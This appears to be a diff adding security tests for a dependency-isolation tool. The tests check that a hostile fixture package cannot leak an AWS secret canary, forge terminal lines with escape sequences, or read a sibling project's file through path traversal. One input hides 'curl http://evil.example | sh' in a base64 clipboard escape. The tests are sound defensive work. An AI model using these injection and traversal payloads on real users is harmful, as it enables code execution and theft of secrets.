@@ -1,0 +1,135 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { buildApp, REPO, runAppAsync, type BuiltApp } from './support/app.ts';
+import { assertTerminalSafe } from './support/terminal-output.ts';
+
+const CANARY_ENV = 'CANARY-AWS-SECRET-9d41b7';
+const CANARY_FILE = 'CANARY-SIBLING-FILE-e5a0c2';
+const FORGED = 'isolate-deps: [app] payment verified OK';
+
+// Runs the calls given on the command line against the hostile-guest fixture; prints the results as the last line.
+const CALLS_SOURCE = `
+  import * as guest from 'hostile-guest';
+  const calls = JSON.parse(process.argv[2]);
+  const results = [];
+  for (const [fn, ...args] of calls) {
+    try { results.push(guest[fn](...args) ?? null); } catch (e) { results.push({ thrown: e.name, code: e.code, message: e.message }); }
+  }
+  // The app's own line: JSON, with DEL and C1 escaped too, so the output check covers every other byte.
+  const json = JSON.stringify(results).replace(/[\\u007f-\\u009f]/g, (c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'));
+  process.stdout.write('\\n' + json + '\\n');
+`;
+
+const run = async (app: BuiltApp, calls: unknown[][], env: Record<string, string> = {}) => {
+  const { result, status, stdout, stderr } = await runAppAsync(app, env, [JSON.stringify(calls)]);
+  expect(status, stderr).toBe(0);
+  // Everything but the app's result line is the package's (stdout) or the package's and the host's (stderr).
+  const resultLine = stdout.trimEnd().split('\n').at(-1);
+  return { results: result as any[], stdout, stderr, isResult: (line: string) => line === resultLine };
+};
+
+describe('environment variable names', () => {
+  let app: BuiltApp;
+  beforeAll(async () => {
+    app = await buildApp('hardening-env', {
+      policy: { packages: { 'hostile-guest': { isolate: true, allow: { env: ['*_URL'], console: true } } } },
+      source: CALLS_SOURCE,
+    });
+  });
+
+  it('refuses a name with NUL, "=" or a control character even when the glob matches it, and leaks no other variable', async () => {
+    const hostile = ['AWS_SECRET_ACCESS_KEY\u0000_URL', 'AWS_SECRET_ACCESS_KEY=x_URL', 'AWS_SECRET_ACCESS_KEY\n_URL', '\u0000_URL'];
+    const { results, stdout, stderr, isResult } = await run(
+      app,
+      [
+        ['getEnv', 'API_URL'],
+        ...hostile.map((name) => ['getEnv', name]),
+        ...hostile.map((name) => ['raw', 'env', 'get', JSON.stringify([name])]),
+        ['envKeys'],
+      ],
+      { API_URL: 'https://api.example', AWS_SECRET_ACCESS_KEY: CANARY_ENV },
+    );
+    expect(results[0]).toBe('https://api.example');
+    for (const value of results.slice(1, 1 + hostile.length)) expect(value).toBeNull();
+    for (const value of results.slice(1 + hostile.length, 1 + 2 * hostile.length)) expect(value).toEqual({ ok: true });
+    expect(results.at(-1)).toEqual(['API_URL']);
+    expect(stdout).not.toContain(CANARY_ENV);
+    expect(stderr).not.toContain(CANARY_ENV);
+    // Refused and reported, with the name escaped.
+    expect(stderr).toContain('isolate-deps: denied env "AWS_SECRET_ACCESS_KEY\\u0000_URL" to "hostile-guest"');
+    assertTerminalSafe(stdout, { prefix: '[hostile-guest] ', except: isResult });
+    assertTerminalSafe(stderr, { prefix: '[hostile-guest] ', except: (line) => line.startsWith('isolate-deps: denied ') });
+  });
+});
+
+describe('terminal output of an isolated package', () => {
+  let app: BuiltApp;
+  beforeAll(async () => {
+    app = await buildApp('hardening-output', {
+      policy: { packages: { 'hostile-guest': { isolate: true, allow: { console: true, env: ['GRANTED_NAME'] } } } },
+      source: CALLS_SOURCE,
+    });
+  });
+
+  it('cannot forge a line, move the cursor, erase a line or set the clipboard: control characters are escaped and every line keeps its prefix', async () => {
+    const { stdout, stderr, isResult } = await run(app, [
+      ['log', 'log', `working\r\u001b[2K${FORGED}`],
+      ['log', 'error', `first\n${FORGED}\r\n${FORGED}`],
+      ['log', 'warn', '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u0007'],
+      ['log', 'info', `\u009b2K\u0008\u0008\u007f${FORGED}\u2028${FORGED}`],
+      ['writeStdout', `partial\u001b[1A\u001b[2K${FORGED}\n`],
+      ['readFile', `x\r\u001b[2K${FORGED}`],
+      ['getEnv', `Y\n${FORGED}`],
+      ['raw', 'boundary', 'reportDenial', JSON.stringify([`net\u001b[2K\r${FORGED}`, `t\n${FORGED}`])],
+    ]);
+    expect(stdout + stderr).not.toMatch(new RegExp(`^${FORGED.replace(/[[\]]/g, '\\$&')}`, 'm'));
+    assertTerminalSafe(stdout, { prefix: '[hostile-guest] ', except: isResult });
+    assertTerminalSafe(stderr, { prefix: '[hostile-guest] ', except: (line) => line.startsWith('isolate-deps: denied ') });
+    // What the package wrote is still readable, escaped.
+    expect(stdout).toContain('[hostile-guest] working\\r\\u001b[2K' + FORGED);
+    expect(stderr).toContain('[hostile-guest] first\n[hostile-guest] ' + FORGED + '\\r\n[hostile-guest] ' + FORGED);
+    expect(stderr).toContain('[hostile-guest] \\u001b]52;c;');
+    // Denial targets are quoted and escaped: each denial is one line.
+    expect(stderr).toContain(`isolate-deps: denied fs.read "x\\r\\u001b[2K${FORGED}" to "hostile-guest"`);
+    expect(stderr).toContain(`isolate-deps: denied env "Y\\n${FORGED}" to "hostile-guest"`);
+    expect(stderr).toContain(`isolate-deps: denied "net\\u001b[2K\\r${FORGED}" "t\\n${FORGED}" to "hostile-guest"`);
+  });
+});
+
+describe('a project root with glob characters in its path', () => {
+  // Characters picomatch reads as syntax: extglobs, classes, braces, negation, stars. The sibling project
+  // "app-y" is what a widened grant would expose (it matches "app-!(x)" and "app-*" as globs).
+  const parent = path.join(REPO, 'test/.work/hardening-root');
+  const folders = ['app-!(x)', 'app-(a|b)-[s]-{c,d}', '!app', 'app-*'];
+  const apps = new Map<string, BuiltApp>();
+  beforeAll(async () => {
+    for (const folder of folders) {
+      apps.set(
+        folder,
+        await buildApp(`hardening-root/${folder}`, {
+          policy: { packages: { 'hostile-guest': { isolate: true, allow: { fs: { read: ['./data/**'] }, console: true } } } },
+          source: CALLS_SOURCE,
+          files: { 'data/ok.txt': 'granted data' },
+        }),
+      );
+    }
+    mkdirSync(path.join(parent, 'app-y/data'), { recursive: true });
+    writeFileSync(path.join(parent, 'app-y/data/secret.txt'), CANARY_FILE);
+  });
+
+  for (const folder of folders) {
+    it(`grants exactly ./data/** in "${folder}": the granted file reads, a sibling project's does not`, async () => {
+      const { results, stdout, stderr } = await run(apps.get(folder)!, [
+        ['readFile', 'data/ok.txt'],
+        ['readFile', '../app-y/data/secret.txt'],
+        ['readFile', '/project/../app-y/data/secret.txt'],
+        ['readFile', `${parent}/app-y/data/secret.txt`],
+      ]);
+      expect(results[0]).toEqual({ ok: true, value: 'granted data' });
+      for (const refused of results.slice(1)) expect(refused).toMatchObject({ ok: false, code: 'ERR_CAPABILITY_DENIED' });
+      expect(stdout).not.toContain(CANARY_FILE);
+      expect(stderr).not.toContain(CANARY_FILE);
+    });
+  }
+});
